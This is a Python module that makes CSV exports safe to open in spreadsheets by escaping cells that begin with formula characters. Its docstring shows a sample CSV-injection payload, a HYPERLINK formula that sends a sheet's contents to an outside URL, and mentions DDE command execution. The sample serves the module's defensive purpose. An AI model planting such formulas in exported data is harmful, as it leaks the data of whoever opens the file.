"""Every CSV the engine writes, written one way: safe to open in a spreadsheet.

A text cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is read
by Excel, LibreOffice and Google Sheets as a formula: `=HYPERLINK("http://…?"&A1, "open")` typed
as a region would send the sheet's contents away, or run a command through DDE, when an auditor
opens the export. Such a cell is written with a leading apostrophe (OWASP's "CSV injection"
advice), which spreadsheets show as text; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """`value` as a spreadsheet will read it as text, never as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The header and rows as CSV, every text cell safe to open in a spreadsheet."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(name) for name in header])
    writer.writerows([safe_cell(value) for value in row] for row in rows)
    return out.getvalue()
